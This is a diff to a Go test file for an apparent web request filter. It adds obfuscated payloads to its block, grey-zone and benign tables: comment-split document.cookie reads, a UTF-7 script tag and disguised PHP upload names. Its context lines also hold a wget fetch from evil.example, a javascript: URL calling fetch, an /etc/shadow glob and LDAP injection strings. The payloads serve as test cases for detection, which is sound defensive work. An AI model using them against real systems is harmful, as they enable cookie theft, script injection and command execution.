@@ -105,6 +105,10 @@ var recallBlock = []struct {
 	{"etc file as a glob", query("file", "/etc/sh?dow")},
 	{"unset braced variable inside a command", query("host", "w${Z1}get evil.example/s")},
 	{"char reference in an unquoted javascript url", post("application/json", `{"bio":"<a href=jav&Tab;ascript&colon;fetch('//x.example')>me</a>"}`)},
+	{"script extension hidden by a space", withHeaders("X-File-Name", "avatar. php.jpg")},
+	{"comment inside document.cookie", query("x", "document/**/.cookie")},
+	{"comment inside a subscripted document", post("application/x-www-form-urlencoded", "a=%28document%2F%2Ax%2A%2F%29%5B%27cookie%27%5D")},
+	{"utf-7 script tag", query("ref", "+ADw-script+AD4-")},
 	{"command word from a brace expansion", query("x", "wh{o,e}ami")},
 	{"ldap or term after a close", query("uid", "bob)(|")},
 	{"ldap and term between terms", query("uid", "bob)&(mail=*")},
@@ -124,6 +128,8 @@ var recallGrey = []struct {
 	{"sandbox escape shown in a document", post("application/json", `{"content":"AngularJS 1.5:\n`+"```"+`\n{{x.constructor('alert(1)')()}}\n`+"```"+`\n"}`)},
 	{"spaced separator after several words", query("q", "the kids' & more")},
 	{"balanced quotes before a pipe", query("q", "'a' | cat")},
+	{"commented line reading the cookie", post("application/json", `{"code":"const c = document.cookie; /* session */"}`)},
+	{"double extension upload name", withHeaders("X-File-Name", "index.php.png")},
 	{"log files by glob", query("path", "/var/log/nginx/*.log")},
 	{"glob with a trailing star", post("application/json", `{"t":"match 'src/*' and \"https://*/*\",\n\"storage\"\n]"}`)},
 }
@@ -149,6 +155,7 @@ var recallBenign = []struct {
 	{"template variable ending a word", query("el", "id${n}")},
 	{"brace expansion in a backup command", query("q", "cp nginx.conf{,.bak}")},
 	{"rust use list", post("application/json", `{"code":"use std::{io,fs};"}`)},
+	{"base64 with a plus", query("k", "q+ADwAbc9+xyz/AB==")},
 	{"function call chained", query("q", "connect(mapState)(App)")},
 	{"session-like upload name too short", withHeaders("X-File-Name", "sess_notes.txt")},
 }
